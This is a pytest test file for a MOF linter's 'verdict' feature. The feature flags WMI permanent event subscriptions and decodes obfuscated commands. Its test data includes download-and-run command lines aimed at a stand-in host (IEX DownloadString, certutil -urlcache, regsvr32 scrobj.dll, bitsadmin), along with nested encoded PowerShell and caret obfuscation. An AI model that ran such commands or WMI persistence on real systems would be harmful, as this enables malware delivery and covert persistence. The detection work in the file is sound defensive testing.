"""The verdict: what files install that runs by itself, and what their commands hide."""

from __future__ import annotations

import gzip
from base64 import b64encode
from collections.abc import Sequence
from pathlib import Path

import pytest

from mofkit import parse_source
from mofkit.cli.verdict import judged, render_verdict
from mofkit.compiler import bind
from mofkit.linter import Unit
from mofkit.linter.payloads import Hidden, hidden_in, marks_in
from mofkit.linter.verdict import Certainty, Verdict, verdicts
from tests.support_cli import mofkit

FILTER = """instance of __EventFilter as $F
{
    Name = "tick"; QueryLanguage = "WQL"; EventNamespace = "root\\\\cimv2";
    Query = "select * from Demo_Event";
};
"""
SCRIPT = """instance of ActiveScriptEventConsumer as $C
{
    Name = "tock"; ScriptingEngine = "VBScript"; ScriptText = "x = 1\\ny = 2";
};
"""
BINDING = "instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };\n"
BY_PATH = (
    'instance of __FilterToConsumerBinding { Filter = "__EventFilter.Name=\\"tick\\""; '
    'Consumer = "ActiveScriptEventConsumer.Name=\\"tock\\""; };\n'
)
RECOVERED = '#pragma autorecover\n#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")\n'


def of(*texts: str) -> Sequence[Verdict]:
    """Return the verdicts about files of these texts."""
    results = [parse_source(text, path=f"{at}.mof") for at, text in enumerate(texts)]
    return verdicts([Unit(bind([result])) for result in results])


def utf16(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


def test_a_whole_subscription_is_certain() -> None:
    (found,) = of(RECOVERED + FILTER + SCRIPT + BINDING)
    assert found.certainty is Certainty.CERTAIN
    assert (found.query, found.query_namespace) == ("select * from Demo_Event", "root\\cimv2")
    assert found.namespace == "root\\subscription"
    assert found.action is not None
    assert (found.action.text, found.action.account) == ("x = 1\ny = 2", "LocalSystem")
    assert len(found.persistence) == 2
    assert found.line == 12


def test_without_autorecover_it_does_not_come_back() -> None:
    (found,) = of(FILTER + SCRIPT + BINDING)
    assert found.persistence == ("in the repository, over restarts, until somebody deletes it",)
    assert found.namespace == "root\\default"


def test_parts_in_several_files_are_found() -> None:
    (found,) = of(BY_PATH, FILTER + SCRIPT)
    assert found.certainty is Certainty.CERTAIN
    assert found.path == "0.mof"


def test_what_is_not_here_is_only_possible() -> None:
    (found,) = of(BY_PATH)
    assert found.certainty is Certainty.POSSIBLE
    assert (found.query, found.action) == (None, None)
    assert len(found.reasons) == 2


@pytest.mark.parametrize("part", [FILTER, SCRIPT])
def test_a_part_installs_nothing(part: str) -> None:
    (found,) = of(part)
    assert found.certainty is Certainty.INCOMPLETE
    assert found.persistence == ()


def test_doubts_are_named() -> None:
    (found,) = of(FILTER.replace("* from", "*") + SCRIPT + BINDING + "class {};")
    assert [reason.partition(":")[0] for reason in found.reasons] == [
        "filter, consumer and binding are all here",
        "the file has errors of syntax, for which mofcomp refuses it as it stands",
        "the query is no WQL",
    ]


def test_other_classes_and_providers_are_no_subscription() -> None:
    assert of("class Fan { string Query; };\ninstance of __Win32Provider { Name = 1; };") == []


@pytest.mark.parametrize(
    ("host", "account"),
    [
        ('HostingModel = "LocalSystemHost";', "LocalSystem"),
        ('HostingModel = "LocalServiceHost";', "LocalService"),
        ("", "NetworkService"),
        ('HostingModel = "Nonsense";', "an account that the files do not say"),
    ],
)
def test_consumers_of_other_classes_run_as_their_provider(host: str, account: str) -> None:
    (found,) = of(
        FILTER + "class Demo_Consumer : __EventConsumer { [key] string Name; };\n"
        'instance of Demo_Consumer as $C { Name = "tock"; };\n'
        f'instance of __Win32Provider as $P {{ Name = "Demo"; {host} }};\n'
        "instance of __EventConsumerProviderRegistration\n"
        '{ provider = $P; ConsumerClassNames = {"demo_consumer"}; };\n' + BINDING
    )
    assert found.action is not None
    assert found.action.account == account
    assert not found.action.runs_code


def test_the_program_is_shown_once_with_its_command_line() -> None:
    def shown(properties: str) -> str:
        (found,) = of(f'instance of CommandLineEventConsumer {{ Name = "x"; {properties} }};')
        assert found.action is not None
        return found.action.text

    path, line = 'ExecutablePath = "C:\\\\a.exe";', 'CommandLineTemplate = "C:\\\\A.exe -x";'
    assert shown(path + line) == "C:\\A.exe -x"
    assert shown(path) == "C:\\a.exe"
    assert shown(path + 'CommandLineTemplate = "b -x";') == "C:\\a.exe\nb -x"


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        (f"powershell -enc {utf16('iex $a')}", [("encoded command", "iex $a")]),
        (f'pwsh -EncodedCommand "{utf16("dir c:")}"', [("encoded command", "dir c:")]),
        (
            f"x {b64encode(b'a text that is long enough to be seen 12').decode()}",
            [("base64", "a text that is long enough to be seen 12")],
        ),
        (
            f"x {b64encode(gzip.compress(b'Write-Host tick; ' * 9, mtime=0)).decode()}",
            [("base64", "Write-Host tick; " * 9)],
        ),
        (
            f"x {b64encode(b'MZ' + bytes(60) + b'PE').decode()}",
            [("base64", "[a Windows program, 64 bytes]")],
        ),
        ("Execute Chr(72) & chr( &H69 )", [("characters by number", "Hi")]),
        (
            f"powershell -e {utf16('powershell -e ' + utf16('iex $inner'))}",
            [
                ("encoded command", f"powershell -e {utf16('iex $inner')}"),
                ("encoded command", "iex $inner"),
            ],
        ),
        (
            'CreateObject("ADO" & "DB.Str" & "eam")',
            [("strings put together", 'CreateObject("ADODB.Stream")')],
        ),
        (
            "new ActiveXObject('WScr'+'ipt.Sh'+'ell')",
            [("strings put together", "new ActiveXObject('WScript.Shell')")],
        ),
        ('x = "a" & "b" + \'c\'', []),
        ("b^i^t^s^admin /transfer x", [("without carets", "bitsadmin /transfer x")]),
        ("C:\\Tools\\A_Long_Path_With_Many_Words_And_Number_1\\run.exe -e value", []),
        ("", []),
    ],
)
def test_hidden_texts_are_decoded(text: str, hidden: list[tuple[str, str]]) -> None:
    assert hidden_in(text) == [Hidden(*one) for one in hidden]


@pytest.mark.parametrize(
    ("text", "marks"),
    [
        ("cscript C:\\Fenwick\\tick.vbs", []),
        ("IEX (New-Object Net.WebClient).DownloadString('x')", ["as code", "a download"]),
        ('CreateObject("ADODB.Stream")', ["as bytes"]),
        ('CreateObject("MSXML2.ServerXMLHTTP.6.0")', ["a download"]),
        ("powershell -w hidden -File x.ps1", ["window"]),
        ("regsvr32 /s /u x.dll", ["other code"]),
        (f"powershell -ec {utf16('x y z')}", ["PowerShell"]),
        ("p^o^w^e^r^s^h^e^l^l -File x.ps1", ["carets"]),
        ("echo a^b ^& copy x^2 y", []),
        ("curl.exe -s -o x.exe host", ["a download"]),
        ("wget https://host.example/x", ["a download"]),
        ("curl --version", []),
        ("wscript.exe //b //e:vbscript x.txt", ["another name"]),
        ("cscript //nologo x.vbs", []),
        ("certutil -decode x.txt x.exe", ["decoded by certutil"]),
        ("certutil.exe -urlcache -f http://host.example/x y", ["a download"]),
        ("certutil -store my", []),
        ("bitsadmin /addfile job http://host.example/x y", ["a download"]),
        ('"C:\\Windows\\System32\\mshta.exe" x.hta', ["other code"]),
        ("rundll32 javascript:x", ["other code"]),
        ("regsvr32 /s /i:http://host.example/x scrobj.dll", ["other code"]),
    ],
)
def test_marks_of_hidden_commands(text: str, marks: list[str]) -> None:
    found = [mark.what for mark in marks_in(text)]
    assert len(found) == len(marks)
    assert all(mark in what for mark, what in zip(marks, found, strict=True))


def test_large_and_deep_texts_are_bounded() -> None:
    inner = "x"
    for _ in range(9):
        inner = f"powershell -enc {utf16(inner)}"
    assert len(hidden_in(inner)) <= 8
    bomb = b64encode(gzip.compress(bytes(50_000_000), mtime=0)).decode()
    assert hidden_in(f"x {bomb}") == []


SCREEN = """\
verdict: tick.mof:12 installs a permanent event subscription, in root\\subscription
  when       select * from Demo_Event
             (events of root\\cimv2)
  does       runs VBScript, as LocalSystem
             | x = 1
             | y = 2
  stays      in the repository, over restarts, until somebody deletes it
             comes back when the repository is rebuilt (#pragma autorecover)
  certain    filter, consumer and binding are all here
"""


def test_the_screen() -> None:
    result = parse_source(RECOVERED + FILTER + SCRIPT + BINDING, path="tick.mof")
    assert render_verdict(judged([bind([result])])) == SCREEN


def test_nothing_reaches_the_terminal_raw() -> None:
    text = SCRIPT.replace("x = 1", "\\x001b[31m").replace("VBScript", "V\\x202eB")
    shown = render_verdict(judged([bind([parse_source(text)])]))
    assert "\x1b" not in shown
    assert "\u202e" not in shown


def test_long_texts_are_cut() -> None:
    text = SCRIPT.replace("x = 1", "x = 1\\n" * 1000)
    assert len(render_verdict(judged([bind([parse_source(text)])])).splitlines()) < 25


def test_check_shows_it_below_the_findings(tmp_path: Path) -> None:
    path = tmp_path / "tick.mof"
    path.write_text(RECOVERED + FILTER + SCRIPT + BINDING)
    shown = mofkit("check", "--select", "EVT,SEC", path)
    assert "certain    filter, consumer and binding are all here" in shown.out
    assert shown.code == 1
    assert "verdict" not in mofkit("check", "--format", "concise", path).out
    path.write_text("class Fan {};")
    shown = mofkit("check", "--select", "EVT,SEC", path)
    assert "verdict: no part of a permanent event subscription is here" in shown.out
    assert shown.code == 0
    assert "verdict" not in mofkit("check", path).out


def test_standard_consumers_say_what_they_write_and_send() -> None:
    def action(text: str) -> tuple[str, list[str]]:
        (found,) = of(f"instance of {text};")
        assert found.action is not None
        return found.action.text, [mark.what for mark in found.action.marks]

    assert action(
        'NTEventLogEventConsumer { Name = "x"; SourceName = "Demo"; EventID = 7; '
        'InsertionStringTemplates = {"a", "b"}; }'
    ) == ("source Demo, event 7\na\nb", [])
    assert action(
        'SMTPEventConsumer { Name = "x"; SMTPServer = "mail"; ToLine = "ops"; Subject = "disk"; '
        'Message = "low"; }'
    ) == ("to ops\nthrough mail\nsubject: disk\nlow", [])
    assert action('LogFileEventConsumer { Filename = "C:\\\\Logs\\\\a.log"; Text = "t"; }') == (
        "C:\\Logs\\a.log: t",
        [],
    )
    hosts = "C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts"
    assert action(f'LogFileEventConsumer {{ Filename = "{hosts}"; }}')[1] == [
        "a file of the system"
    ]
    assert action('LogFileEventConsumer { Filename = "C:\\\\a.ps1"; }')[1] == [
        "a file that can be run"
    ]


def test_what_the_binding_names_may_be_where_an_error_is() -> None:
    """It must not be called absent: it is there, and cannot be read to its end."""
    broken = SCRIPT.replace('"VBScript";', '"VBScript"')
    bound = bind([parse_source(FILTER + broken + BINDING)])
    (found,) = judged([bound]).found
    assert found.action is not None
    assert not any("none of the files" in reason for reason in found.reasons)
    bound = bind([parse_source(FILTER + "instance of = {};\n" + BINDING)])
    (found,) = judged([bound]).found
    assert found.reasons[0] == (
        "what the binding names as consumer is in a part that could not be read, or nowhere"
    )


def test_an_alias_of_nothing_is_named() -> None:
    (found,) = of(FILTER + BINDING)
    assert found.reasons[0] == "the alias $C, which the binding names as consumer, is of nothing"
